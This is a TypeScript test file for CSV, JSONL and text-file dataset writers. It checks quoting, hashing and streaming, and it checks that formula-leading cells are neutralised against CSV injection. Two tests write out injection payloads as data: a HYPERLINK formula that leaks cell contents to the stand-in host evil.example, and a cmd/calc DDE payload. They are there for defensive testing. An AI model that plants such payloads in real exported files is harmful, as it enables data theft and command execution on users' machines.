import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvWriter, jsonlWriter, textFile } from './writers';
import { labelsTemplate } from '../analysis/agreement/io/writeTemplates';

const dir = () => mkdtempSync(join(tmpdir(), 'tandem-writers-'));
const sha = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

describe('dataset writers', () => {
  it('writes CSV with header, quoting, conventions, hash and counts', async () => {
    const path = join(dir(), 'x.csv');
    const w = csvWriter(path, ['a', 'b', 'c', 'd']);
    await w.write({ a: 'plain', b: 'has, comma "and" quote\nnewline', c: true, d: null });
    await w.write({ a: 3.5, b: ['x', 'y'], c: false, extra: 'dropped' });
    const result = await w.close();
    const text = readFileSync(path, 'utf8');
    expect(text.split('\n')[0]).toBe('a,b,c,d');
    expect(parse(text, { columns: true })).toEqual([
      { a: 'plain', b: 'has, comma "and" quote\nnewline', c: 'true', d: '' },
      { a: '3.5', b: 'x;y', c: 'false', d: '' },
    ]);
    expect(result).toMatchObject({ rows: 2, bytes: Buffer.byteLength(text), sha256: sha(path) });
  });

  it('neutralises formula-leading text cells (OWASP) and keeps real numbers of numeric columns intact', async () => {
    const path = join(dir(), 'formulas.csv');
    const w = csvWriter(path, ['value', 'n', 'score'], new Set(['n', 'score']));
    const dangerous = ['=HYPERLINK("http://evil.example/?x="&A1,"pay")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1', '\r=1', "'quoted"];
    for (const value of dangerous) await w.write({ value, n: -3, score: '-3' });
    await w.write({ value: 'plain text', n: 1.5e-7, score: '=1+1' });
    await w.close();
    const rows = parse(readFileSync(path, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.slice(0, dangerous.length).map((r) => r.value)).toEqual(dangerous.map((v) => `'${v}`));
    for (const r of rows.slice(0, dangerous.length)) expect([r.n, r.score]).toEqual(['-3', '-3']); // numbers stay numbers
    expect(rows.at(-1)).toEqual({ value: 'plain text', n: '1.5e-7', score: "'=1+1" }); // not a number: neutralised even in a numeric column
    // Dropping one leading quote gives every raw value back.
    expect(rows.slice(0, dangerous.length).map((r) => r.value!.slice(1))).toEqual(dangerous);
  });

  it('the annotation template raters open in a spreadsheet neutralises formula-leading utterance text too', () => {
    const csv = labelsTemplate([{ session_id: 'p1', turn: 0, speaker: 'user', text: '=HYPERLINK("http://evil.example","x")' }]);
    expect((parse(csv, { columns: true }) as Record<string, string>[])[0]!.text).toBe('\'=HYPERLINK("http://evil.example","x")');
  });

  it('writes the header alone when there are no rows', async () => {
    const path = join(dir(), 'empty.csv');
    const result = await csvWriter(path, ['session_id', 'score']).close();
    expect(readFileSync(path, 'utf8')).toBe('session_id,score\n');
    expect(result.rows).toBe(0);
  });

  it('writes JSONL in column order with nulls for missing keys', async () => {
    const path = join(dir(), 'x.jsonl');
    const w = jsonlWriter(path, ['id', 'text', 'n']);
    await w.write({ text: 'héllo\n"q"', id: 'a' });
    const result = await w.close();
    expect(readFileSync(path, 'utf8')).toBe('{"id":"a","text":"héllo\\n\\"q\\"","n":null}\n');
    expect(result).toMatchObject({ rows: 1, sha256: sha(path) });
  });

  it('hashes small text files', async () => {
    const path = join(dir(), 'm.json');
    const result = await textFile(path, '{"a":1}\n');
    expect(result.sha256).toBe(sha(path));
    expect(result.bytes).toBe(8);
  });

  it('streams many rows with backpressure', async () => {
    const path = join(dir(), 'big.csv');
    const w = csvWriter(path, ['i', 'text']);
    for (let i = 0; i < 50_000; i++) await w.write({ i, text: 'x'.repeat(50) });
    const result = await w.close();
    expect(result.rows).toBe(50_000);
    expect(readFileSync(path, 'utf8').split('\n').length).toBe(50_002);
  });
});
